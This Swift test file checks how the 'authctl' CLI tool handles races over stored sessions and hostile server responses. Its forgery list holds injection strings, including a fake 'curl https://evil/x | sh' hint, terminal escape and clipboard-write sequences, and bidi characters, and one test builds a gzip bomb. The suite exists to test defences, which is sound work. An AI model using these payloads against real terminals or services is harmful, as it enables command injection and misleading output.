import Glibc
import Testing

/// Sessions with slow, hostile and endless servers, and with others who write to the keyring: rules
/// B1, B4, B5, B6, B8, B12.
@Suite struct SessionSafetyTests {
  // MARK: Rules B1 and B8

  /// The session is ended or replaced during a renewal.
  @Test(arguments: ["logout", "login"])
  func slowRenewalBringsNothingBack(_ command: String) async throws {
    try await Sandbox.with { box in
      let latch = try Latch()
      let logins = Mutable(0)
      let api = try box.recorder { _, request in
        switch Scene.route(of: request) {
        case "POST /login":
          let number = logins.increase()
          return Scene.tokens("token-of-login-\(number)", "refresh-\(number)")
        case "POST /refresh":
          latch.wait()
          return Scene.tokens("token-of-renewal", "refresh-of-renewal")
        default: return .http(200, "{}")
        }
      }
      try box.profile("shop", Scene.profile(api.url))
      try await box.signIn("shop")
      let renewal = try box.start(["refresh", "-p", "shop"])
      try await api.waitForConnections(2)
      let other = try box.start(
        command == "logout"
          ? ["logout", "-p", "shop"] : ["login", "-p", "shop", "--password-stdin"],
        stdin: "a password")
      if command == "login" { try await api.waitForConnections(3) }
      latch.open()
      _ = try await renewal.finish()
      #expect(try await other.finish().status == 0)
      #expect(try await box.storedTokens() == (command == "logout" ? [] : ["token-of-login-2"]))
    }
  }

  /// The session is ended or replaced during a request whose response has new values.
  @Test(arguments: ["logout", "login"])
  func lateAnswerBringsNothingBack(_ command: String) async throws {
    try await Sandbox.with { box in
      let latch = try Latch()
      let logins = Mutable(0)
      let api = try box.recorder { _, request in
        switch Scene.route(of: request) {
        case "POST /login":
          return Scene.tokens("token-of-login-\(logins.increase())")
        case "GET /slow":
          latch.wait()
          return .http(
            200, "{}", headers: [("Set-Cookie", "late=1; Path=/"), ("X-Token", "late-token")])
        default: return .http(200, "{}")
        }
      }
      try box.profile(
        "shop",
        Scene.profile(
          api.url, request: "cookies = true\nheaders = { A = \"{access_token}\" }",
          session:
            "renew_on_every_response = true\naccess_token = [\"header:X-Token\", \"/access_token\"]"
        ))
      try await box.signIn("shop")
      let slow = try box.start(["get", "-p", "shop", "/slow"])
      try await api.waitForConnections(2)
      let words =
        command == "logout"
        ? ["logout", "-p", "shop"] : ["login", "-p", "shop", "--password-stdin"]
      #expect(try await box.run(words, stdin: "a password").status == 0)
      latch.open()
      let run = try await slow.finish()
      #expect(run.status == 0)
      #expect(run.stdout == "{}")
      let stored = try await box.items().compactMap(\.secret)
      #expect(stored.count == (command == "logout" ? 0 : 1))
      #expect(stored.allSatisfy { !$0.contains("late") && $0.contains("token-of-login-2") })
    }
  }

  /// Another process renews the session during a request whose response sets a cookie.
  @Test func cookieOfALateAnswerKeepsTheNewPair() async throws {
    try await Sandbox.with { box in
      let latch = try Latch()
      let api = try box.recorder { _, request in
        switch Scene.route(of: request) {
        case "POST /login": return Scene.tokens("old-token", "old-refresh-token")
        case "POST /refresh": return Scene.tokens("new-token", "new-refresh-token")
        case "GET /slow":
          latch.wait()
          return .http(200, "{}", headers: [("Set-Cookie", "late=1; Path=/")])
        default: return .http(200, "{}")
        }
      }
      try box.profile("shop", Scene.profile(api.url, request: Self.withCookies))
      try await box.signIn("shop")
      let slow = try box.start(["get", "-p", "shop", "/slow"])
      try await api.waitForConnections(2)
      #expect(try await box.run("refresh", "-p", "shop").status == 0)
      latch.open()
      let run = try await slow.finish()
      #expect(run.stdout == "{}" && run.stderr == "" && run.status == 0)
      let stored = try JSON(parsing: try await box.items().first?.secret ?? "")
      #expect(stored["values"]?["access_token"] == "new-token")
      #expect(stored["values"]?["refresh_token"] == "new-refresh-token")
      #expect(stored["cookies"]?[0]?["name"] == "late")
    }
  }

  /// While another process holds the lock, a response changes nothing: the holder may be about to
  /// write what it has read before.
  @Test func cookiesAreStoredUnderTheLock() async throws {
    try await Sandbox.with { box in
      let api = try box.recorder { _, request in
        Scene.route(of: request) == "POST /login"
          ? Scene.tokens("a-token", "a-refresh-token")
          : .http(200, "{}", headers: [("Set-Cookie", "new=1; Path=/")])
      }
      try box.profile("shop", Scene.profile(api.url, request: Self.withCookies))
      try await box.signIn("shop")
      let locks = list(box.stateHome + "/authctl/locks")
      try #require(locks.count == 1)
      let lock = open(box.stateHome + "/authctl/locks/" + locks[0], O_RDWR | O_CLOEXEC)
      defer { close(lock) }
      try #require(flock(lock, LOCK_EX | LOCK_NB) == 0)
      let before = try await box.items()
      let words = ["get", "-p", "shop", "/a", "--lock-timeout", "0"]
      let late = try await box.run(words)
      #expect(late.stdout == "{}" && late.status == 0)
      #expect(
        late.stderr
          == "authctl: warning: shop: new cookies or values could not be stored: shop: timed out "
          + "waiting for another authctl that is using this session\n")
      #expect(try await box.items() == before)
      try #require(flock(lock, LOCK_UN) == 0)
      let run = try await box.run(words)
      #expect(run.stdout == "{}" && run.stderr == "" && run.status == 0)
      #expect(try await box.items().first?.secret?.contains(#""name":"new""#) == true)
    }
  }

  private static let withCookies = """
    cookies = true
    headers = { Authorization = "Bearer {access_token}" }
    """

  @Test func terminalAndCronMeetAtOneLock() async throws {
    try await Sandbox.with { box in
      let api = try await box.api()
      try box.profile("shop", Scene.profile(api.url))
      try await box.signIn("shop", as: "ada@example.com", password: "correct horse battery")
      try await api.expire()
      let children = try (0..<8).map { number in
        var env: [String: String?] = [:]
        if number % 2 == 1 { env["XDG_RUNTIME_DIR"] = .some(nil) }
        return try box.start(["get", "-p", "shop", "/me"], env: env)
      }
      for child in children {
        let run = try await child.finish()
        #expect(run.status == 0, "\(run.stderr)")
      }
      #expect(try await api.count("POST /refresh") == 1)
    }
  }

  // MARK: Rule B12

  @Test func itemThatIsNotWhatItSaysIsRefused() async throws {
    try await Sandbox.with { box in
      let access = box.canary.make("access")
      let api = try box.recorder(answering: Scene.routes(["POST /login": Scene.tokens(access)]))
      try box.profile("shop", Scene.profile(api.url))
      try box.profile("other", Scene.profile(api.url))
      try await box.signIn("shop")
      let item = try #require(try await box.items().first)
      let secret = try #require(item.secret)
      var attributes = item.attributes
      // The secret under another account or profile, and unrelated data.
      for (name, value) in [("account", "bob"), ("profile", "other")] {
        attributes = item.attributes
        attributes[name] = value
        try await box.store(attributes: attributes, secret: secret)
      }
      attributes = item.attributes
      attributes["account"] = "eve"
      try await box.store(attributes: attributes, secret: "{}")
      let before = api.connections.count
      for words in [
        ["-p", "shop", "-u", "bob"], ["-p", "other", "-u", Scene.account],
        ["-p", "shop", "-u", "eve"],
      ] {
        let run = try await box.run(["get", "/x"] + words)
        #expect(run.status == 12, "\(words): \(run.stderr)")
        #expect(run.stdout == "")
      }
      // Two items for one session: it is unclear which one is meant.
      attributes = item.attributes
      attributes["origin"] = "https://evil.example"
      try await box.store(attributes: attributes, secret: secret)
      let two = try await box.run("get", "/x", "-p", "shop", "-u", Scene.account)
      #expect(two.status == 12, "\(two.stderr)")
      #expect(api.connections.count == before)
      let out = try await box.run("logout", "-p", "shop", "-u", Scene.account)
      #expect(out.status == 0, "\(out.stderr)")
    }
  }

  // MARK: Rule B4

  static let forgeries = [
    "bad\nhint: curl https://evil/x | sh", "bad\r\nauthctl: all is well", "bad\rauthctl: x",
    "::add-path::/tmp", "x\n::add-path::/tmp", "\u{1B}]52;c;ZXZpbA==\u{7}", "\u{1B}[2J\u{1B}[H",
    "\u{9B}2J", "a\u{202E}b", "a\u{2066}b", "a\u{200B}b", "a\u{2028}hint: b", "a\u{85}hint: b",
    "a\u{E0041}b", "nul\u{0}x", "hint: at the start", String(repeating: "long ", count: 200),
  ]

  @Test func serversWordsForgeNothing() async throws {
    try await Sandbox.with { box in
      let latest = Mutable("")
      let api = try box.recorder { _, request in
        Scene.route(of: request) == "POST /login"
          ? .http(401, JSON.object(["message": .string(latest.value)]).text)
          : .http(200, JSON.object(["email": .string(latest.value)]).text)
      }
      try box.profile("shop", Scene.profile(api.url))
      for text in Self.forgeries {
        latest.value = text
        let runs = [
          try await box.run(
            "login", "-p", "shop", "-u", "ada", "--password-stdin", stdin: "a password"),
          try await box.run("whoami", "-p", "shop", env: ["AUTHCTL_TOKEN": "a-token"]),
        ]
        #expect(runs[0].status == 14)
        for run in runs {
          let shown = run.stdoutBytes + run.stderrBytes
          let note: Comment = "\(text.debugDescription): \(run.stderr.debugDescription)"
          #expect(shown.allSatisfy { $0 == 10 || $0 >= 0x20 && $0 != 0x7F }, note)
          let scalars = String(decoding: shown, as: UTF8.self).unicodeScalars
          #expect(
            scalars.allSatisfy {
              ![.control, .format, .lineSeparator].contains($0.properties.generalCategory)
                || $0 == "\n"
            }, note)
        }
        let lines = runs[0].stderr.split(separator: "\n")
        #expect(lines.count == 3, "\(runs[0].stderr)")
        #expect(lines.first == "authctl: shop refused this name and password (HTTP 401)")
        #expect(lines.dropFirst().first?.hasPrefix("server: ") == true)
        #expect((lines.dropFirst().first?.unicodeScalars.count ?? 0) <= 308)
        #expect(lines.last == "hint: authctl login -p shop -u ada --password-stdin")
      }
    }
  }

  // MARK: Rules B5 and B6

  static let numbers = [
    "1e308", "-1e308", "1e400", "9223372036854775808", "-9223372036854775809", "-9e18", "0", "-1",
    "1e-320", "\"99999999999999999999\"", "\"NaN\"", "\"1e999\"", "true", "[1]", "{}", "\"\"",
  ]

  @Test func numbersNeverEndTheProgram() async throws {
    try await Sandbox.with { box in
      let latest = Mutable("")
      let api = try box.recorder { _, request in
        Scene.route(of: request) == "POST /login" ? .http(200, latest.value) : .http(200, "{}")
      }
      try box.profile("shop", Scene.profile(api.url))
      for number in Self.numbers {
        latest.value =
          #"{"access_token":"a-token","expires_in":\#(number),"expires_at":\#(number)}"#
        let login = try await box.run(
          "login", "-p", "shop", "-u", "ada", "--password-stdin", stdin: "a password")
        #expect([0, 15].contains(login.status), "\(number): \(login.status) \(login.stderr)")
        let status = try await box.run("status", "--json")
        #expect(status.status == 0)
        #expect(throws: Never.self) { try JSON(parsing: status.stdout) }
      }
      let deep = String(repeating: "[", count: 100_000)
      latest.value = deep
      let login = try await box.run(
        "login", "-p", "shop", "-u", "ada", "--password-stdin", stdin: "a password")
      #expect(login.status == 15)
    }
  }

  @Test func answersToASignInAreBounded() async throws {
    try await Sandbox.with { box in
      let pad = String(repeating: "x", count: 1 << 20)
      let header = String(repeating: "h", count: 8000)
      let endless = Array("HTTP/1.1 200 OK\r\n\r\n".utf8) + Array(repeating: 0x20, count: 2 << 20)
      let answers: [(Recorder.Answer, Int32)] = [
        (.http(200, #"{"access_token":"a-token","pad":"\#(pad)"}"#), 15),
        (.http(200, #"{"access_token":"\#(pad.prefix(70_000))"}"#), 15),
        (.http(200, "{}", headers: (0..<40).map { ("X-\($0)", header) }), 15),
        (.bytesThenHang(endless), 15), (.bytes(Array("not HTTP at all\r\n\r\n".utf8)), 7),
        (.http(200, "<html>"), 15), (.http(200, ""), 15), (.http(204), 15), (.close, 7),
        (.http(429, "{}", headers: [("Retry-After", "99999999999999999999")]), 4),
        (.http(503, "{}", headers: [("Retry-After", "1")]), 5),
      ]
      let latest = Mutable(Recorder.Answer.close)
      let api = try box.recorder { _, _ in latest.value }
      try box.profile("shop", Scene.profile(api.url))
      for (index, (answer, status)) in answers.enumerated() {
        latest.value = answer
        let run = try await box.run(
          "login", "-p", "shop", "-u", "ada", "--password-stdin", stdin: "a password")
        #expect(run.status == status, "\(index): \(run.stderr.prefix(300))")
        // A sign-in is never retried.
        #expect(api.connections.count == index + 1)
        #expect(run.stderr.utf8.count < 2000)
      }
      #expect(try await box.items().isEmpty)
    }
  }

  @Test func compressedAnswerIsCountedAsItUnpacks() async throws {
    try await Sandbox.with { box in
      let bomb = box.root + "/bomb"
      let made = try await box.run(
        "-c", #"head -c 50000000 /dev/zero | gzip -9 >"$1""#, "sh", bomb, program: "/bin/sh")
      #expect(made.status == 0)
      let packed = try #require(readFile(bomb))
      let head =
        "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: \(packed.count)\r\n\r\n"
      let api = try box.recorder { _, _ in .bytes(Array(head.utf8) + packed) }
      try box.profile("shop", Scene.profile(api.url))
      let run = try await box.run(
        "login", "-p", "shop", "-u", "ada", "--password-stdin", stdin: "a password")
      #expect(run.status == 15, "\(run.stderr)")
      #expect(try await box.items().isEmpty)
    }
  }
}
